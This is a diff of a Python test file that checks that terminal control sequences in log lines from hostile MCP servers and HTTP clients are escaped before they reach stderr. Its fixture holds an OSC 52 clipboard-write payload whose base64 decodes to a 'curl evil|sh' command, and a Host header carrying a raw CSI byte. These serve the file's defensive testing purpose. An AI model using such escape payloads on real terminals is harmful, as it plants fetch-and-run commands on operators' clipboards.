@@ -4,15 +4,20 @@
 but the MCP SDK logs through its own loggers, which had no handler: Python's last resort wrote
 them to stderr as they were. An HTTP MCP server (a third party's URL in the operator's
 settings) answered each POST with an SSE event whose *name* held an OSC 52 and an erase-line;
-the SDK logged "Unknown SSE event: <name>" and the operator's clipboard was written. Every
-library's warnings now go through the same escaping handler (the root logger's). A real
-``shellrt tools`` process against a hostile server in this test's thread.
+the SDK logged "Unknown SSE event: <name>" and the operator's clipboard was written. The same
+from the other side: ``serve --http`` logged a client's ``Host`` header ("Invalid Host header:
+…", h11 passes bytes 0x80-0xff, so U+009B, the one-character CSI, came out raw). Every library's
+warnings now go through the same escaping handler (the root logger's; uvicorn's loggers
+propagate to it). A real ``shellrt tools`` process against a hostile server in this test's
+thread, and a real ``shellrt serve --http``.
 """
 
 from __future__ import annotations
 
 import json
 import os
+import signal
+import socket
 import subprocess
 import sys
 import threading
@@ -23,6 +28,7 @@ from pathlib import Path
 import pytest
 
 from tests._mcp_support import ROOT, isolated_env
+from tests._serve_cli import bypass_serve_argv
 
 #: OSC 52 (clipboard write) and an erase-line, as an SSE event's name.
 _EVIL = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2K"
@@ -93,3 +99,38 @@ def test_a_remote_servers_event_name_reaches_stderr_escaped(tmp_path: Path, host
     assert b"mcp__evil__t" in done.stdout, done  # the server was reached and listed
     assert b"Unknown SSE event" in done.stderr, done.stderr  # the SDK's line is still shown
     assert b"\x1b" not in done.stderr and b"\x07" not in done.stderr, done.stderr
+
+
+def _listening(port: int, proc: subprocess.Popen[bytes]) -> None:
+    for _ in range(1200):
+        assert proc.poll() is None, f"serve exited {proc.returncode}"
+        try:
+            socket.create_connection(("127.0.0.1", port), timeout=1).close()
+            return
+        except OSError:
+            threading.Event().wait(0.05)
+    raise AssertionError("serve did not listen within 60 s")
+
+
+def test_a_clients_host_header_reaches_stderr_escaped(tmp_path: Path) -> None:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = int(probe.getsockname()[1])
+    (tmp_path / "ws").mkdir()
+    argv = bypass_serve_argv(tmp_path / "ws", "--no-auth", transport=("--http", f"127.0.0.1:{port}"))
+    env = {**os.environ, **isolated_env(tmp_path)}
+    proc = subprocess.Popen(argv, env=env, cwd=str(ROOT), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    try:
+        _listening(port, proc)
+        request = (
+            b"POST /mcp HTTP/1.1\r\nHost: ev\x9b2Kil.example\r\nContent-Type: application/json\r\n"
+            b"Accept: application/json, text/event-stream\r\nContent-Length: 2\r\n\r\n{}"
+        )
+        with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
+            sock.sendall(request)
+            assert sock.recv(64).startswith(b"HTTP/1.1 421"), "the rebinding check answers first"
+    finally:
+        proc.send_signal(signal.SIGTERM)
+        _, stderr = proc.communicate(timeout=60)
+    assert b"Invalid Host header" in stderr, stderr
+    assert b"\xc2\x9b" not in stderr and b"\x1b" not in stderr, stderr  # U+009B (CSI) in UTF-8
